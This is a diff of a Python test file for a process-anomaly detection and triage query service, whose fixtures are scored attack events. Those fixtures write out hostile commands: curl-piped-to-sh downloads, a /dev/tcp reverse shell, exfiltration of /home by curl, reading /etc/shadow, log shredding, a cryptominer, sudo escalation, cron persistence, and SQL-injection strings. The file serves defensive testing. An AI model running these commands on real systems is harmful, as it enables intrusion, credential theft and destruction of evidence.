@@ -1,61 +1,119 @@
+"""QueryService over a real table (chdb, written by the clickhouse exporter): the list grouped by incident,
+the event view, behaviour search, the chart, filters, tenants, and the terminal rendering."""
+
 from __future__ import annotations
 
 import json
 import time
+from dataclasses import dataclass, field
 from pathlib import Path
 
-import numpy as np
 import pytest
 from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
-from opentelemetry.proto.common.v1.common_pb2 import AnyValue, KeyValue
 
-from core.event import ProcessEvent
 from otlp_receiver.component import LogBatch
 from otlp_receiver.exporters.clickhouse.config import Config
 from otlp_receiver.exporters.clickhouse.exporter import ClickHouseExporter
 from otlp_receiver.query import cli
 from otlp_receiver.query.render import triage_list
-from otlp_receiver.query.service import QueryService
-from scoring.featurizer import get_embedder
+from otlp_receiver.query.service import Filter, QueryService
 from testing import run_command
-from testing.otlp_values import any_value
+from testing.otlp_values import key_values
 
 HOSTILE_WORKLOAD = "web' OR '1'='1"
-NOW_NS = int(time.time() * 1e9)
+NOW = time.time()
 
-# (workload, executable, command line, score, severity, reasons, ancestors, nearest)
-EVENTS = [
-    ("web", "bash", "curl -s http://203.0.113.9/x.sh | bash", 0.97, "alert",
-     ["shell spawned by nginx", "downloads and runs a script"], ["sh", "nginx"], "nginx -g daemon off;"),
-    ("web", "nginx", "nginx -g daemon off;", 0.02, "none", [], ["systemd"], "nginx -g daemon off;"),
-    ("web", "nginx", "nginx -g daemon off;", 0.01, "none", [], ["systemd"], "nginx -g daemon off;"),
-    ("ci", "python3", "python3 build_release.py --sign", 0.7, "warn", ["new on this workload"], ["make"], "make all"),
-    (HOSTILE_WORKLOAD, "sh", "sh -c 'id; \x1b[2J'", 0.9, "alert", ["binary in /dev/shm"], [], ""),
+
+@dataclass
+class Stored:
+    """One scored event as the anomaly processor leaves it."""
+
+    command: str
+    score: float
+    severity: str = "none"
+    workload: str = "web"
+    host: str = "web-1"
+    pid: int = 1000
+    ppid: int = 1
+    exe: str = ""
+    uid: int = 33
+    reasons: list[str] = field(default_factory=list)
+    ancestors: list[str] = field(default_factory=list)
+    nearest: str = ""
+    incident: str = ""
+    incident_score: float = 0.0
+    techniques: list[str] = field(default_factory=list)
+    ago: float = 60.0  # seconds before now
+
+    def attributes(self) -> dict[str, object]:
+        attributes: dict[str, object] = {
+            "process.pid": self.pid, "process.parent_pid": self.ppid, "process.command_line": self.command,
+            "process.executable.name": self.exe or self.command.split()[0], "process.user.id": self.uid,
+            "process.command_args": self.command.split(), "process.parent.executable.name": (self.ancestors or [""])[0],
+            "anomaly_score": self.score, "anomaly_severity": self.severity, "anomaly_workload": self.workload,
+            "anomaly_reasons": self.reasons, "process.ancestors": self.ancestors, "anomaly_nearest": self.nearest,
+            "anomaly_model": "hash128-v2"}
+        if self.incident:
+            attributes.update(anomaly_incident=self.incident, anomaly_incident_score=self.incident_score)
+        if self.techniques:
+            attributes["anomaly_techniques"] = self.techniques
+        return attributes
+
+
+# A web worker's shell pipes a download into sh, drops and runs a binary: one incident. Around it, routine
+# work, and single events that each show one behaviour in words the queries below never use.
+DROPPER = [
+    Stored("sh -c curl -s http://198.51.100.4/i.sh | sh", 0.81, "alert", pid=200, ppid=101,
+           reasons=["shell spawned by nginx [T1505.003]"], ancestors=["nginx", "nginx"], incident="inc-7",
+           incident_score=0.97, techniques=["T1505.003"], ago=50),
+    Stored("curl -s http://198.51.100.4/i.sh", 0.62, "warn", pid=201, ppid=200,
+           reasons=["download piped into sh: curl | sh [T1105]"], ancestors=["sh", "nginx"], incident="inc-7",
+           incident_score=0.97, techniques=["T1105"], ago=49),
+    Stored("sh", 0.7, "warn", pid=202, ppid=200, reasons=["download piped into sh: curl | sh [T1105]"],
+           ancestors=["sh", "nginx"], incident="inc-7", incident_score=0.97, techniques=["T1105"], ago=49),
+    Stored("chmod +x /tmp/.cache-x", 0.74, "warn", pid=203, ppid=202, ancestors=["sh", "sh", "nginx"],
+           reasons=["made executable in a temporary directory [T1222.002]"], incident="inc-7", incident_score=0.97,
+           techniques=["T1222.002"], ago=48),
 ]
+SINGLES = [
+    Stored("bash -i >& /dev/tcp/198.51.100.4/4444 0>&1", 0.93, "alert", pid=300, ancestors=["sh"],
+           reasons=["interactive shell started non-interactively"], host="web-2", ago=40),
+    Stored("xmrig --donate-level 1 -o stratum+tcp://198.51.100.9:3333", 0.71, "warn", pid=301, ancestors=["bash"],
+           workload="batch", host="batch-1", ago=30),
+    Stored("shred -u /var/log/auth.log", 0.72, "warn", pid=302, ancestors=["bash"], workload="admin", host="adm",
+           uid=0, ago=30),
+    Stored("cat /etc/shadow", 0.6, "warn", pid=303, ancestors=["bash"], workload="admin", host="adm", uid=0, ago=30),
+    Stored("tar czf - /home | curl --data-binary @- https://198.51.100.7/u", 0.66, "warn", pid=304, workload="admin",
+           host="adm", ancestors=["bash"], ago=30),
+    Stored("sudo find / -exec /bin/sh ; -quit", 0.77, "alert", pid=305, ancestors=["bash"], workload="admin",
+           host="adm", uid=1000, ago=30),
+    # Evidence the scoring found, in a command line that says nothing by itself.
+    Stored("/usr/local/bin/pkgd --install-schedule", 0.68, "warn", pid=306, ancestors=["bash"], workload="admin",
+           host="adm", techniques=["T1053.003"], reasons=["writes cron [T1053.003]"], ago=30),
+    Stored("echo '*/5 * * * * root /opt/x' > /etc/cron.d/x", 0.55, "warn", pid=307, ancestors=["bash"],
+           workload="admin", host="adm", uid=0, ago=30),
+]
+ROUTINE = [Stored("nginx -g daemon off;", 0.02, pid=100, uid=0, ancestors=["systemd"], ago=90 - i) for i in range(3)]
+ROUTINE += [Stored("date", 0.05, pid=400 + i, ancestors=["sh", "fcgiwrap"], nearest="date", ago=20 + i)
+            for i in range(4)]
+ROUTINE += [Stored("python3 build.py --sign", 0.7, "warn", workload="ci", host="ci-1", pid=500, uid=1001,
+                   nearest="make all", ago=10),
+            Stored("sh -c 'id; \x1b[2J'", 0.9, "alert", workload=HOSTILE_WORKLOAD, host="h", pid=600,
+                   reasons=["binary in /dev/shm"], ago=5),
+            Stored("nginx -s reload", 0.3, workload="vm", host="vm", pid=700, uid=0, ago=7200)]
+ALL = DROPPER + SINGLES + ROUTINE
 
 
-def stored_batch(batch_id: str, tenant: str, events: list[tuple]) -> LogBatch:
+def stored_batch(batch_id: str, tenant: str, events: list[Stored]) -> LogBatch:
     request = ExportLogsServiceRequest()
-    resource_logs = request.resource_logs.add()
-    resource_logs.resource.attributes.append(KeyValue(key="host.name", value=AnyValue(string_value="host-1")))
-    records = resource_logs.scope_logs.add().log_records
-    process_events = []
-    for i, (workload, exe, command, score, severity, reasons, ancestors, nearest) in enumerate(events):
-        record = records.add()
-        record.time_unix_nano = NOW_NS - i * 1000
-        record.body.string_value = command
-        for key, value in (("process.executable.name", AnyValue(string_value=exe)),
-                           ("process.command_line", AnyValue(string_value=command)),
-                           ("anomaly_score", AnyValue(double_value=score)),
-                           ("anomaly_severity", AnyValue(string_value=severity)),
-                           ("anomaly_workload", AnyValue(string_value=workload)),
-                           ("anomaly_reasons", any_value(reasons)), ("process.ancestors", any_value(ancestors)),
-                           ("anomaly_nearest", AnyValue(string_value=nearest)),
-                           ("anomaly_model", AnyValue(string_value="hash128-v2"))):
-            record.attributes.append(KeyValue(key=key, value=value))
-        process_events.append(ProcessEvent(executable_name=exe, command_line=command))
-    embeddings = get_embedder().embed(process_events)
-    return LogBatch(logs=request, tenant=tenant, batch_id=batch_id, embeddings=np.asarray(embeddings))
+    for event in events:
+        resource_logs = request.resource_logs.add()
+        resource_logs.resource.attributes.extend(key_values({"host.name": event.host}))
+        record = resource_logs.scope_logs.add().log_records.add()
+        record.time_unix_nano = int((NOW - event.ago) * 1e9)
+        record.body.string_value = event.command
+        record.attributes.extend(key_values(event.attributes()))
+    return LogBatch(logs=request, tenant=tenant, batch_id=batch_id)
 
 
 @pytest.fixture(scope="module")
@@ -64,8 +122,8 @@ def clickhouse_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
     exporter = ClickHouseExporter(Config(endpoint=f"chdb://{path}", database="q"))
     exporter.start()
     try:
-        exporter.export(stored_batch("1", "team-a", EVENTS))
-        exporter.export(stored_batch("2", "team-b", [EVENTS[0]]))
+        exporter.export(stored_batch("1", "team-a", ALL))
+        exporter.export(stored_batch("2", "team-b", [ROUTINE[0]]))
     finally:
         exporter.shutdown()
     return path
@@ -73,71 +131,191 @@ def clickhouse_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 @pytest.fixture
 def service(clickhouse_dir: Path):
-    query = QueryService.from_exporter_config(Config(endpoint=f"chdb://{clickhouse_dir}", database="q"), "hash128-v2")
+    query = QueryService.from_exporter_config(Config(endpoint=f"chdb://{clickhouse_dir}", database="q"))
     yield query
     query.close()
 
 
-def test_search_ranks_the_nearest_event_first(service: QueryService) -> None:
-    results = service.search("team-a", "curl bash", limit=3)
-    top = results[0]
-    assert top["command_line"].startswith("curl -s http://203.0.113.9")
-    assert top["distance"] < results[1]["distance"]
-    assert top["reasons"] == ["shell spawned by nginx", "downloads and runs a script"]
-    assert top["ancestors"] == ["sh", "nginx"] and top["nearest"] == "nginx -g daemon off;"
-    assert (top["severity"], top["workload"], top["host"], top["score"]) == ("alert", "web", "host-1", 0.97)
-    assert top["time"].endswith("Z") and top["record_id"] == "1:0"
+def record_of(command: str) -> str:
+    """Record ids are `batch:ordinal`: the events of team-a in ALL's order."""
+    return f"1:{[event.command for event in ALL].index(command)}"
 
 
-def test_search_shows_a_repeated_command_once(service: QueryService) -> None:
+# -- search ----------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("query", "expected"), [
+    ("reverse shell", "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1"),
+    ("crypto miner", "xmrig --donate-level 1 -o stratum+tcp://198.51.100.9:3333"),
+    ("log tampering", "shred -u /var/log/auth.log"),
+    ("credential access", "cat /etc/shadow"),
+    ("data sent out", "tar czf - /home | curl --data-binary @- https://198.51.100.7/u"),
+    ("privilege escalation through sudo", "sudo find / -exec /bin/sh ; -quit"),
+    ("download and execute", "sh -c curl -s http://198.51.100.4/i.sh | sh"),
+    ("web shell", "sh -c curl -s http://198.51.100.4/i.sh | sh"),
+])
+def test_search_finds_behaviour_in_words_the_event_does_not_use(service: QueryService, query: str,
+                                                                 expected: str) -> None:
+    results = service.search("team-a", query, limit=5)
+    assert results and results[0]["command_line"] == expected, [r["command_line"] for r in results]
+    assert results[0]["matched"]["techniques"], "a match says which behaviour it found"
+    assert results[0]["relevance"] >= results[-1]["relevance"]
+
+
+def test_search_finds_what_the_evidence_names_and_what_the_command_shows(service: QueryService) -> None:
+    commands = [r["command_line"] for r in service.search("team-a", "persistence via cron", limit=5)]
+    # The first only through its evidence (anomaly_techniques, the reason's [T1053.003]); the second by its path.
+    assert set(commands[:2]) == {"/usr/local/bin/pkgd --install-schedule",
+                                 "echo '*/5 * * * * root /opt/x' > /etc/cron.d/x"}
+    assert "nginx -g daemon off;" not in commands
+
+
+def test_search_matches_plain_words_and_attack_ids(service: QueryService) -> None:
+    assert service.search("team-a", "nginx reload")[0]["command_line"] == "nginx -s reload"
+    assert service.search("team-a", "T1496")[0]["command_line"].startswith("xmrig")
+    assert service.search("team-a", "zebra crossing") == []
+
+
+def test_search_shows_a_repeated_command_once_with_its_count(service: QueryService) -> None:
     results = service.search("team-a", "nginx daemon", limit=10)
-    assert [r["command_line"] for r in results].count("nginx -g daemon off;") == 1
-    assert len(results) == 4
+    nginx = [r for r in results if r["command_line"] == "nginx -g daemon off;"]
+    assert len(nginx) == 1 and nginx[0]["occurrences"] == 3
 
 
 def test_results_never_cross_tenants(service: QueryService) -> None:
     assert [r["record_id"] for r in service.search("team-b", "nginx", limit=10)] == ["2:0"]
-    assert service.search("team-c", "curl bash") == []
-    assert service.search("team-a' OR TenantId != '", "curl") == []
+    assert service.search("team-c", "reverse shell") == []
+    assert service.search("team-a' OR TenantId != '", "nginx") == []
+    assert service.anomalies(Filter("team-c")) == []
 
 
 def test_workload_filter_binds_hostile_names(service: QueryService) -> None:
     results = service.search("team-a", "sh id", workload=HOSTILE_WORKLOAD)
     assert [r["workload"] for r in results] == [HOSTILE_WORKLOAD]
-    assert service.anomalies("team-a", workload="ci")[0]["command_line"] == "python3 build_release.py --sign"
+    assert service.anomalies(Filter("team-a", workload="ci"))[0]["command_line"] == "python3 build.py --sign"
     assert service.search("team-a", "curl; DROP TABLE q.security_events --", workload="web")
 
 
-def test_anomalies_are_ranked_and_filtered(service: QueryService) -> None:
-    results = service.anomalies("team-a", since=time.time() - 3600, min_score=0.5)
-    assert [r["score"] for r in results] == [0.97, 0.9, 0.7]
-    assert service.anomalies("team-a", since=time.time() + 3600) == []
-    assert len(service.anomalies("team-a", min_score=0.0, limit=2)) == 2
+# -- the ranked list ---------------------------------------------------------------------------------------
+
+
+def test_anomalies_group_an_incident_into_one_line_with_its_tree(service: QueryService) -> None:
+    results = service.anomalies(Filter("team-a", min_score=0.5))
+    top = results[0]
+    assert (top["kind"], top["id"], top["events"], top["rank"]) == ("incident", "inc-7", 4, 0.97)
+    assert top["command_line"] == DROPPER[0].command and top["severity"] == "alert"
+    assert top["techniques"] == ["T1505.003", "T1222.002", "T1105"]  # the highest-scored events' first
+    [root] = top["chain"]
+    assert root["command_line"] == DROPPER[0].command
+    assert [child["command_line"] for child in root["children"]] == ["curl -s http://198.51.100.4/i.sh", "sh"]
+    assert root["children"][1]["children"][0]["command_line"] == "chmod +x /tmp/.cache-x"
+    assert not any(r["command_line"].startswith("curl -s http") for r in results[1:]), "its events are not repeated"
+    assert [r["rank"] for r in results] == sorted((r["rank"] for r in results), reverse=True)
+
+
+def test_anomalies_can_list_every_command_line_instead(service: QueryService) -> None:
+    results = service.anomalies(Filter("team-a", min_score=0.5), by_incident=False)
+    assert {r["kind"] for r in results} == {"pattern"}
+    assert results[0]["command_line"] == "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1"
+    assert "curl -s http://198.51.100.4/i.sh" in [r["command_line"] for r in results]
+
+
+def test_anomalies_filter_by_host_severity_and_time(service: QueryService) -> None:
+    assert [r["command_line"] for r in service.anomalies(Filter("team-a", host="web-2"))] == [SINGLES[0].command]
+    alerts = service.anomalies(Filter("team-a", severities=("alert",)))
+    assert {r["severity"] for r in alerts} == {"alert"} and len(alerts) == 4
+    dates = [r for r in service.anomalies(Filter("team-a", severities=("none",))) if r["command_line"] == "date"]
+    assert dates[0]["events"] == 4 and dates[0]["kind"] == "pattern"
+    recent = service.anomalies(Filter("team-a", since=NOW - 15))
+    assert [r["command_line"] for r in recent] == ["sh -c 'id; \x1b[2J'", "python3 build.py --sign"]
+    assert service.anomalies(Filter("team-a", since=NOW + 3600, until=NOW + 7200)) == []
+    assert len(service.anomalies(Filter("team-a"), limit=2)) == 2
 
 
 @pytest.mark.parametrize(("call", "message"), [
     (lambda s: s.search("t", "   "), "query"), (lambda s: s.search("t", "x" * 5000), "query"),
-    (lambda s: s.search("t", "x", limit=0), "limit"), (lambda s: s.anomalies("t", limit=10_000), "limit"),
-    (lambda s: s.anomalies("t", min_score=2.0), "min_score"),
+    (lambda s: s.search("t", "x", limit=0), "limit"), (lambda s: s.anomalies(Filter("t"), limit=20_000), "limit"),
+    (lambda s: s.anomalies(Filter("t", min_score=2.0)), "min_score"),
+    (lambda s: s.anomalies(Filter("t", severities=("bad",))), "severity"),
+    (lambda s: s.anomalies(Filter("t", since=NOW, until=NOW - 1)), "since"),
+    (lambda s: s.volume(Filter("t"), step=0), "step"),
 ])
 def test_bad_requests_are_value_errors(service: QueryService, call, message: str) -> None:  # type: ignore[no-untyped-def]
     with pytest.raises(ValueError, match=message):
         call(service)
 
 
-def test_triage_list_colours_by_severity_and_neutralises_control_bytes(service: QueryService) -> None:
-    results = service.anomalies("team-a", min_score=0.5)
+# -- one event, the chart, the filters, acknowledging -----------------------------------------------------------
+
+
+def test_event_view_has_the_tree_reasons_nearest_raw_attributes_and_sql(service: QueryService) -> None:
+    answer = service.event("team-a", record_of("chmod +x /tmp/.cache-x"))
+    assert answer is not None
+    event = answer["event"]
+    assert event["reasons_explained"] == [{"text": "made executable in a temporary directory",
+                                           "technique": {"id": "T1222.002", "name": "Linux File and Directory "
+                                                         "Permissions Modification", "tactics": ["defense evasion"]}}]
+    assert answer["incident"]["id"] == "inc-7" and answer["incident"]["events"] == 4
+    assert answer["chain"][0]["command_line"] == DROPPER[0].command and answer["context"] == ["nginx", "nginx"]
+    assert event["raw"]["attributes"]["process.pid"] == "203" and event["raw"]["resource"]["host.name"] == "web-1"
+    assert "AnomalyIncident = 'inc-7'" in answer["sql"] and "TenantId = 'team-a'" in answer["sql"]
+    assert answer["sql_url"] is None  # embedded ClickHouse: no server to link to
+    dated = service.event("team-a", record_of("date"))
+    assert dated is not None and dated["nearest"] == {"command_line": "date", "seen": 4}
+    assert dated["incident"] is None and f"RecordId = '{record_of('date')}'" in dated["sql"]
+    assert service.event("team-b", record_of("chmod +x /tmp/.cache-x")) is None
+
+
+def test_sql_link_points_at_a_clickhouse_server_without_its_credentials(service: QueryService) -> None:
+    service.clickhouse_endpoint = "https://reader:secret@clickhouse.example:8443/db"
+    answer = service.event("team-a", record_of("cat /etc/shadow"))
+    assert answer is not None and answer["sql_url"].startswith("https://clickhouse.example:8443/?query=SELECT")
+    assert "secret" not in answer["sql_url"]
+
+
+def test_volume_counts_events_by_severity_over_time(service: QueryService) -> None:
+    buckets = service.volume(Filter("team-a", since=NOW - 3600), step=60)
+    assert sum(b["alert"] for b in buckets) == 4 and sum(b["warn"] for b in buckets) == 10
+    assert sum(b["none"] for b in buckets) == 7  # one routine line is older than the hour
+    assert [b["time"] for b in buckets] == sorted(b["time"] for b in buckets)
+
+
+def test_facets_list_workloads_and_hosts(service: QueryService) -> None:
+    facets = service.facets(Filter("team-a"))
+    assert facets["workloads"] == sorted({e.workload for e in ALL})
+    assert "web-2" in facets["hosts"] and "h" in facets["hosts"]
+
+
+def test_acknowledgeable_gives_back_typed_attributes(service: QueryService) -> None:
+    found = service.acknowledgeable("team-a", record_of("cat /etc/shadow"))
+    assert found is not None
+    workload, attributes = found
+    assert workload == "admin" and attributes["process.command_args"] == ["cat", "/etc/shadow"]
+    assert attributes["host.name"] == "adm" and "anomaly_score" not in attributes and attributes["ts"] > 0
+    assert service.acknowledgeable("team-b", record_of("cat /etc/shadow")) is None
+
+
+# -- the terminal ----------------------------------------------------------------------------------------------
+
+
+def test_triage_list_draws_the_chain_colours_severity_and_neutralises_control_bytes(service: QueryService) -> None:
+    results = service.anomalies(Filter("team-a", min_score=0.5))
     coloured = triage_list(results, color=True, title="Top")
     lines = coloured.splitlines()
-    assert lines[1].startswith("\033[1;31m  1. 0.97 ALERT")
-    assert any(line.startswith("\033[33m  3. 0.70 WARN") for line in lines)
-    assert "why: shell spawned by nginx; downloads and runs a script" in coloured
-    assert "lineage: bash <- sh <- nginx" in coloured and "nearest normal: nginx -g daemon off;" in coloured
+    assert lines[1].startswith("\033[1;31m  1. 0.97 ALERT") and "incident of 4 events" in lines[1]
+    assert "     chain:" in lines
+    assert "       nginx" in lines and any(line.startswith("          └─ sh -c curl") for line in lines)
+    assert any("├─ curl -s http://198.51.100.4/i.sh" in line for line in lines)
     assert "\x1b[2J" not in coloured and "\\x1b[2J" in coloured
     plain = triage_list(results, color=False, title="Top")
     assert "\033[" not in plain.replace("\\x1b", "")
-    below = triage_list(service.anomalies("team-a", min_score=0.0), color=True, title="All")
-    assert "\033[37m" in below
+    assert "web on web-1" in plain
+
+
+def test_a_workload_that_is_only_a_host_name_is_named_once(service: QueryService) -> None:
+    results = service.anomalies(Filter("team-a", host="vm"))
+    assert "host vm " in triage_list(results, color=False, title="Top") and "vm / vm" not in triage_list(
+        results, color=False, title="Top")
 
 
 def procsight(*argv: str) -> int:
@@ -147,13 +325,16 @@ def procsight(*argv: str) -> int:
 
 def test_cli_reads_clickhouse_directly(clickhouse_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
     direct = ("--clickhouse", f"chdb://{clickhouse_dir}", "--database", "q", "--tenant", "team-a")
-    assert procsight("search", "curl bash", *direct, "--json", "--limit", "2") == 0
+    assert procsight("search", "crypto miner", *direct, "--json", "--limit", "2") == 0
     results = json.loads(capsys.readouterr().out)["results"]
-    assert len(results) == 2 and results[0]["record_id"] == "1:0"
+    assert results[0]["command_line"].startswith("xmrig")
     assert procsight("top", *direct, "--since", "1h", "--min-score", "0.8") == 0
     out = capsys.readouterr().out
-    assert out.startswith("Top anomalies since 1h (score >= 0.8):\n  1. 0.97 ALERT web / host-1")
+    assert out.startswith("Top anomalies since 1h (score >= 0.8, by incident):\n  1. 0.97 ALERT web on web-1")
     assert "\033[" not in out  # not a terminal: no colour codes
+    assert procsight("top", *direct, "--group", "pattern", "--host", "adm", "--severity", "alert") == 0
+    out = capsys.readouterr().out
+    assert "sudo find / -exec /bin/sh ; -quit" in out and "cat /etc/shadow" not in out
 
 
 def test_cli_explains_a_missing_receiver(capsys: pytest.CaptureFixture[str]) -> None:
@@ -161,6 +342,9 @@ def test_cli_explains_a_missing_receiver(capsys: pytest.CaptureFixture[str]) -> 
     assert "no receiver at http://127.0.0.1:1" in capsys.readouterr().err
 
 
-def test_cli_rejects_a_bad_duration(clickhouse_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    assert procsight("top", "--clickhouse", f"chdb://{clickhouse_dir}", "--database", "q", "--since", "yesterday") == 1
+def test_cli_rejects_a_bad_duration_and_severity(clickhouse_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    direct = ("--clickhouse", f"chdb://{clickhouse_dir}", "--database", "q")
+    assert procsight("top", *direct, "--since", "yesterday") == 1
     assert "--since" in capsys.readouterr().err
+    assert procsight("top", *direct, "--severity", "urgent") == 1
+    assert "--severity" in capsys.readouterr().err
